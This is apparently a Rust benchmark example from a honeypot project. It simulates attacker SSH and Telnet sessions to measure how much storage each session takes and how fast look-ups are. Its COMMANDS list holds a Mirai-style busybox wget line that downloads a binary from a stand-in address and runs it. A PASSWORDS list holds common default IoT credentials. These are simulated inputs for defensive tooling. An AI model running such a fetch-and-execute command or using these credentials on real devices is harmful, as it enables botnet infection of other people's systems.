//! Bytes that the store keeps of a session of the common kind: log-in, one command, exit.
//!
//! `cargo run --release -p ukai-store --example bytes_per_session -- [SESSIONS] [FOLDER]`
//! prints one JSON object: bytes a session of the whole folder and of each part of it,
//! after the store was closed, and what look-ups take. Half of the sessions come over SSH
//! (a fingerprint, up to three log-ins), half over Telnet with a recording of the
//! terminal; eight of them always run at once, from addresses that return now and then.

use rand::rngs::SmallRng;
use rand::seq::IndexedRandom as _;
use rand::{Rng, SeedableRng};
use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use ukai_model::{
    CloseReason, Event, EventId, EventKind, Flow, SCHEMA_VERSION, SessionId, Timestamp, Transport,
};
use ukai_store::{EventQuery, Store, StoreConfig};

type Result<T> = std::result::Result<T, Box<dyn std::error::Error>>;

const PASSWORDS: [&str; 16] = [
    "root",
    "admin",
    "123456",
    "vizxv",
    "xc3511",
    "password",
    "12345",
    "default",
    "juantech",
    "anko",
    "7ujMko0admin",
    "888888",
    "qwerty123",
    "1qaz2wsx",
    "support",
    "P@ssw0rd",
];
const COMMANDS: [&str; 4] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp || cd /var/run; busybox wget http://203.0.113.9/bins/mips -O- > .x; sh .x",
    "echo -e \"\\x67\\x61\\x79\\x66\\x67\\x74\"; /bin/busybox ECCHI",
];
/// What OpenSSH 9.2 offers.
const KEXINIT: &str = include_str!("../../ukai-cowrie/src/tests/openssh.kexinit");
const CLIENTS: [&str; 3] = ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_9.2p1"];

fn main() -> Result<()> {
    let mut arguments = std::env::args().skip(1);
    let sessions: u32 = arguments.next().map_or(Ok(20_000), |text| text.parse())?;
    let folder = arguments.next().map_or_else(std::env::temp_dir, PathBuf::from);
    let folder = folder.join(format!("ukai-bytes-per-session-{}", std::process::id()));
    std::fs::create_dir_all(&folder)?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let result = runtime.block_on(measure(&folder, sessions));
    std::fs::remove_dir_all(&folder)?;
    result
}

async fn measure(folder: &Path, sessions: u32) -> Result<()> {
    let mut rng = SmallRng::seed_from_u64(1);
    let store = Store::open(folder, StoreConfig::default())?;
    let (mut events, mut raw, mut last) = (0, 0, None);
    let mut open: Vec<Visit> = Vec::new();
    let mut now = Timestamp::from_secs(1_790_000_000);
    let mut begun = 0;
    while begun < sessions || !open.is_empty() {
        now = now + Duration::from_nanos(rng.random_range(1_000_000..60_000_000));
        if begun < sessions && open.len() < 8 {
            open.push(Visit::new(&mut rng, now));
            begun += 1;
        }
        let at = rng.random_range(0..open.len());
        let visit = &mut open[at];
        let Some(kind) = visit.left.pop() else {
            let done = open.swap_remove(at);
            if let Some(cast) = done.cast {
                raw += cast.len() as u64;
                store.put_recording(done.session, cast).await?;
            }
            continue;
        };
        let event = Event {
            v: SCHEMA_VERSION,
            id: EventId::new(now, rng.random()),
            time: now,
            sensor: "local".parse()?,
            session: Some(visit.session),
            flow: Some(visit.flow),
            kind,
        };
        raw += serde_json::to_vec(&event)?.len() as u64;
        last = Some(event.clone());
        events += 1;
        store.enqueue(vec![event]).await?;
    }
    let last = last.ok_or("no sessions")?;
    store.enforce_quota().await?;
    store.close().await?;
    let part = |name: &str| bytes_of(&folder.join(name));
    let (log, recordings) = (part("events"), part("recordings"));
    let catalogue = part("catalogue.sqlite") + part("catalogue.sqlite-wal");
    let whole = bytes_of(folder);
    let per_session = |bytes: u64| bytes as f64 / f64::from(sessions);

    let store = Store::open(folder, StoreConfig::default())?;
    let mut looked_up = Vec::new();
    let mut query = EventQuery { limit: Some(50), ..EventQuery::default() };
    let started = Instant::now();
    let newest = store.events(query.clone()).await?.items.len();
    looked_up.push(("newest_50_ms", started.elapsed(), newest));
    query.session = last.session;
    let started = Instant::now();
    let of_session = store.events(query.clone()).await?.items.len();
    looked_up.push(("session_ms", started.elapsed(), of_session));
    (query.session, query.src_ip) = (None, last.flow.map(|flow| flow.src_ip));
    let started = Instant::now();
    let of_source = store.events(query.clone()).await?.items.len();
    looked_up.push(("source_ms", started.elapsed(), of_source));
    (query.src_ip, query.kind) = (None, Some("command.input".into()));
    query.to = Some(Timestamp::from_secs(1_790_000_060));
    let started = Instant::now();
    let commands = store.events(query).await?.items.len();
    looked_up.push(("oldest_commands_ms", started.elapsed(), commands));
    let started = Instant::now();
    let known = usize::from(store.event(last.id).await?.is_some());
    looked_up.push(("event_ms", started.elapsed(), known));
    store.close().await?;
    let looked_up: Vec<String> = looked_up
        .iter()
        .map(|(name, took, found)| {
            assert!(*found > 0, "{name} found nothing");
            format!("\"{name}\": {:.2}", took.as_secs_f64() * 1e3)
        })
        .collect();
    println!(
        "{{\"sessions\": {sessions}, \"events\": {events}, \"json_and_cast\": {:.0}, \
         \"events_log\": {:.0}, \"recordings_log\": {:.0}, \"catalogue\": {:.0}, \
         \"bytes_per_session\": {:.0}, {}}}",
        per_session(raw),
        per_session(log),
        per_session(recordings),
        per_session(catalogue),
        per_session(whole),
        looked_up.join(", "),
    );
    Ok(())
}

/// A session on its way.
struct Visit {
    session: SessionId,
    flow: Flow,
    /// What will happen, the last first.
    left: Vec<EventKind>,
    cast: Option<Vec<u8>>,
}

impl Visit {
    fn new(rng: &mut SmallRng, now: Timestamp) -> Self {
        let ssh = rng.random_bool(0.5);
        let protocol = if ssh { "ssh" } else { "telnet" };
        // Few sources come often, many seldom.
        let source = 0x2d00_0000 + (rng.random_range(0f64..1.0).powi(3) * 20_000.0) as u32 * 4_099;
        let host = Ipv4Addr::new(192, 0, 2, rng.random_range(1..255));
        let flow = Flow::new(
            Transport::Tcp,
            SocketAddr::new(IpAddr::from(Ipv4Addr::from(source)), rng.random_range(1_024..=65_535)),
            SocketAddr::new(host.into(), if ssh { 22 } else { 23 }),
        );
        let persona = if ssh { "server-debian" } else { "router-mips" };
        let mut kinds =
            vec![EventKind::SessionOpen { protocol: protocol.into(), persona: persona.into() }];
        let client = rng.random_range(0..CLIENTS.len());
        if ssh {
            kinds.push(EventKind::ClientFingerprint {
                method: "ssh-kexinit".into(),
                value: KEXINIT
                    .lines()
                    .next()
                    .unwrap_or_default()
                    .replace("x25519", &format!("x2551{client}")),
                software: Some(CLIENTS[client].into()),
            });
        }
        kinds.push(EventKind::ClientFingerprint {
            method: if ssh { "hassh" } else { "telnet-options" }.into(),
            value: if ssh {
                format!("{:032x}", 0x1234_5678_9abc_u128 * (client as u128 + 7))
            } else {
                "DO:1,DO:3".into()
            },
            software: ssh.then(|| CLIENTS[client].into()),
        });
        let attempts = rng.random_range(1..=3);
        let mut password = String::new();
        for attempt in 1..=attempts {
            (*PASSWORDS.choose(rng).expect("there are some")).clone_into(&mut password);
            if rng.random_bool(0.2) {
                password = format!("{password}{}", rng.random_range(0..10_000));
            }
            kinds.push(EventKind::LoginAttempt {
                protocol: protocol.into(),
                user: if rng.random_bool(0.8) { "root".into() } else { "admin".into() },
                password: password.as_str().into(),
                method: ssh.then(|| "password".into()),
                proof: None,
                success: attempt == attempts,
            });
        }
        let command = *COMMANDS.choose(rng).expect("there are some");
        kinds.push(EventKind::CommandInput { line: command.into(), unknown: Vec::new() });
        let duration_ms = rng.random_range(400..9_000);
        kinds.push(EventKind::SessionClose {
            protocol: protocol.into(),
            reason: if rng.random_bool(0.7) { CloseReason::Peer } else { CloseReason::Emulator },
            duration_ms,
            bytes_in: rng.random_range(120..1_800),
            bytes_out: rng.random_range(600..3_000),
            recorded: !ssh,
        });
        kinds.reverse();
        let cast = (!ssh).then(|| {
            let start = now.secs();
            let mut at = 0.0;
            let mut cast = format!(
                "{{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":{start},\
                 \"env\":{{\"TERM\":\"vt100\"}}}}\n"
            );
            let mut line = |direction: &str, text: &str| {
                at += rng.random_range(0.0..0.4);
                let text = serde_json::to_string(text).expect("text");
                let _ = writeln!(cast, "[{at:.6},\"{direction}\",{text}]");
            };
            line("o", &format!("router-{host} login: root\r\nPassword: \r\n"));
            line("o", "\r\n\r\nBusyBox v1.22.1 (2016-03-14 15:27:04 CST) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ");
            line("i", &format!("{command}\r"));
            line("o", &format!("{command}\r\nLinux router 3.10.14 #1 Mon Mar 14 15:31:22 CST 2016 mips GNU/Linux\r\n# "));
            line("i", "exit\r");
            line("o", "exit\r\n");
            cast.into_bytes()
        });
        Self { session: SessionId::new(now, rng.random()), flow, left: kinds, cast }
    }
}

fn bytes_of(path: &Path) -> u64 {
    match std::fs::metadata(path) {
        Ok(data) if data.is_file() => data.len(),
        Ok(_) => std::fs::read_dir(path)
            .map(|entries| entries.flatten().map(|entry| bytes_of(&entry.path())).sum())
            .unwrap_or_default(),
        Err(_) => 0,
    }
}
